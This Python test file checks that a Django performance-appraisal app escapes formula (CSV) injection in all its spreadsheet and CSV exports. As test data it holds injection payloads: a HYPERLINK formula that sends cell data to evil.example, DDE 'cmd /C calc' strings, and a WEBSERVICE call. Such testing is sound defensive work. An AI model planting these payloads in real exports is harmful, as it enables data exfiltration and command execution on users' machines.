"""Formula injection (OWASP "CSV Injection") over every spreadsheet and CSV export.

Names, units, positions and RHK texts of instansi A are set to formulas (`=HYPERLINK`,
DDE calls, their `+`/`-`/`@`/tab/full-width forms); every export is downloaded and every
cell read back: none may be a formula, and no text cell may start with a character that
makes a spreadsheet read it as one, while numbers stay numbers.

Every module that writes CSV or XLSX must be listed in WRITERS with the exports that
exercise it, so a new export cannot skip this test (test_every_writer_is_covered).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from ekinerja.api.tokens import token_create
from ekinerja.appraisal.domain import evaluation, ratings
from ekinerja.appraisal.models import Evaluasi
from ekinerja.appraisal.tests.factories import appraisal_world, open_periode, set_rating
from ekinerja.core.spreadsheet import is_formula_like, safe_cell, unescape_cell
from ekinerja.execution import domain as exec_domain
from ekinerja.execution.tests.factories import make_aktivitas
from ekinerja.org.models import Jabatan, Pegawai, UnitKerja
from ekinerja.plans.models import RHK

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
NAMES = {
    "alice": HYPERLINK,
    "bob": "+cmd|' /C calc'!A0",
    "charlie": "-2+3+cmd|' /C calc'!A0",
    "dina": "@SUM(1+1)*cmd|' /C calc'!A0",
    "eko": "\t=1+1",
    "fajar": '\uff1dHYPERLINK("https://evil.example")',  # full-width "="
}
UNITS = {"dinas": "=1+1 Dinas", "bidang": " =2+2 Bidang", "bkpsdm": "\r=3+3"}
JABATAN = "@Jabatan"
RHK_TEXT = '=WEBSERVICE("https://evil.example")'
PAYLOADS = {*NAMES.values(), *UNITS.values(), JABATAN, RHK_TEXT}
# What a spreadsheet may treat as the start of a formula (tested here independently of
# the implementation's own list).
DANGEROUS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*")


@dataclass(frozen=True)
class Export:
    id: str
    who: str
    url: str
    params: dict
    fmt: str  # csv | xlsx
    api: bool = False


def exports(w) -> list[Export]:
    tahunan = w.tahunan.pk
    return [
        *(
            Export(f"org-{kind}", "eko", reverse("org:export", args=[kind]), {}, "xlsx")
            for kind in ("unit", "jabatan", "pegawai")
        ),
        Export("plans-cascade", "eko", reverse("plans:cascade-export"), {}, "xlsx"),
        Export("plans-completeness", "eko", reverse("plans:completeness-export"), {}, "xlsx"),
        Export(
            "execution-ringkasan",
            "bob",
            reverse("execution:ringkasan"),
            {"bulan": "2026-03", "unduh": "xlsx"},
            "xlsx",
        ),
        Export(
            "appraisal-siasn-bulanan",
            "eko",
            reverse("appraisal:siasn-export"),
            {"periode": w.periode.pk, "format": "csv"},
            "csv",
        ),
        Export(
            "appraisal-siasn-tahunan",
            "eko",
            reverse("appraisal:siasn-export"),
            {"periode": tahunan, "format": "csv"},
            "csv",
        ),
        Export(
            "api-siasn",
            "eko",
            reverse("api:appraisal-siasn"),
            {"periode": w.periode.pk, "format": "csv"},
            "csv",
            api=True,
        ),
        *(
            Export(
                f"appraisal-angka-kredit-{fmt}",
                "eko",
                reverse("appraisal:angka-kredit"),
                {"tahun": 2026, "format": fmt},
                fmt,
            )
            for fmt in ("csv", "xlsx")
        ),
    ]


# Every module under ekinerja/ that writes CSV or XLSX → the exports above that run it.
WRITERS = {
    "org/exports.py": {"org-unit", "org-jabatan", "org-pegawai"},
    "plans/documents.py": {"plans-cascade", "plans-completeness"},
    "execution/views/ringkasan.py": {"execution-ringkasan"},
    "appraisal/exports.py": {
        "appraisal-siasn-bulanan",
        "appraisal-siasn-tahunan",
        "api-siasn",
        "appraisal-angka-kredit-csv",
        "appraisal-angka-kredit-xlsx",
    },
}
WRITER_CALL = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\bXlsxBook\(")
NOT_EXPORTS = {"org/samples/build_xlsx.py"}  # builds the static sample files from CSV


@pytest.fixture
def world(cast):
    for who, name in NAMES.items():
        Pegawai.objects.filter(pk=getattr(cast, who).pk).update(nama=name)
    for attr, name in UNITS.items():
        UnitKerja.objects.filter(pk=getattr(cast, attr).pk).update(nama=name)
    Jabatan.objects.filter(pk=cast.jab_fungsional.pk).update(nama=JABATAN)
    w = appraisal_world(cast)
    RHK.objects.filter(skp=w.cascade.charlie).update(teks=RHK_TEXT)
    for who in ("bob", "charlie", "dina"):
        set_rating(w, who, ratings.SESUAI, ratings.SESUAI)
    w.tahunan = open_periode(cast, w.cascade, jenis=evaluation.JENIS_TAHUNAN, nomor=0)
    Evaluasi.objects.filter(periode_penilaian=w.tahunan).update(
        rating_hasil_kerja=ratings.SESUAI,
        rating_perilaku=ratings.SESUAI,
        predikat=ratings.BAIK,
        status=evaluation.EVALUASI_DINILAI,
    )
    make_aktivitas(
        cast, "charlie", tanggal=dt.date(2026, 3, 2), jam=None, menit=60,
        status=exec_domain.DIVERIFIKASI,
    )  # fmt: skip
    return w


def _download(cast, client, export: Export) -> bytes:
    if export.api:
        api = APIClient()
        _token, key = token_create(user=cast.user(export.who))
        api.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
        response = api.get(export.url, export.params)
    else:
        client.force_login(cast.user(export.who))
        response = client.get(export.url, export.params)
    assert response.status_code == 200, (export.id, response.status_code)
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _cells(export: Export, data: bytes) -> list[tuple[object, bool]]:
    """(value, is a formula) of every cell of the file."""
    if export.fmt == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        return [(value, False) for row in rows for value in row]
    wb = load_workbook(io.BytesIO(data))
    return [
        (cell.value, cell.data_type == "f")
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _inert(value: object) -> bool:
    if not isinstance(value, str):
        return True
    head = value.lstrip(" ")
    if not head or head[0] not in DANGEROUS:
        return True
    return NUMBER.fullmatch(head) is not None or head == "-"


def test_every_export_writes_formulas_as_text(cast, client, world):
    seen_any = set()
    for export in exports(world):
        cells = _cells(export, _download(cast, client, export))
        formulas = [v for v, is_formula in cells if is_formula]
        assert formulas == [], (export.id, formulas)
        live = [v for v, _f in cells if not _inert(v)]
        assert live == [], (export.id, live)
        # The payloads really went through this export, each as the quoted text.
        escaped = {v for v, _f in cells if isinstance(v, str) and v[1:] in PAYLOADS}
        assert escaped, f"{export.id}: no payload reached the file"
        assert all(v.startswith("'") for v in escaped), (export.id, escaped)
        seen_any |= {v[1:] for v in escaped}
    assert HYPERLINK in seen_any


def test_numbers_stay_numbers_in_the_exports(cast, client, world):
    by_id = {e.id: e for e in exports(world)}
    wb = load_workbook(io.BytesIO(_download(cast, client, by_id["appraisal-angka-kredit-xlsx"])))
    row = next(wb.active.iter_rows(min_row=2, values_only=True))
    assert isinstance(row[-1], int | float)  # angka kredit
    wb = load_workbook(io.BytesIO(_download(cast, client, by_id["execution-ringkasan"])))
    rows = list(wb.active.iter_rows(min_row=2, values_only=True))
    assert all(isinstance(v, int) for r in rows for v in r[4:])


def test_every_writer_is_covered():
    root = Path(__file__).resolve().parent.parent
    writers = set()
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in f"/{rel}" or "/migrations/" in rel or rel in NOT_EXPORTS:
            continue
        if WRITER_CALL.search(path.read_text(encoding="utf-8")):
            writers.add(rel)
    assert writers == set(WRITERS), "a new CSV/XLSX writer: add its exports to this test"
    for rel in WRITERS:
        text = (root / rel).read_text(encoding="utf-8")
        assert "safe_cell" in text, f"{rel} writes cells without core.spreadsheet.safe_cell"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+62 812 3456 789", "'+62 812 3456 789"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        # numbers stay numbers, ordinary text stays as it is
        (-12, -12),
        (-1.5, -1.5),
        ("-12.5", "-12.5"),
        ("-1.234,5", "-1.234,5"),
        ("+6281234567890", "+6281234567890"),
        ("-", "-"),
        ("Siti Aminah, S.Kom.", "Siti Aminah, S.Kom."),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    if isinstance(value, str):
        assert unescape_cell(safe_cell(value)) == value
        assert is_formula_like(value) == (expected != value)


def test_decimal_and_dates_are_unchanged():
    assert safe_cell(Decimal("-4.688")) == Decimal("-4.688")
    assert safe_cell(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)
    assert unescape_cell("'ordinary") == "'ordinary"  # a quote the user typed stays
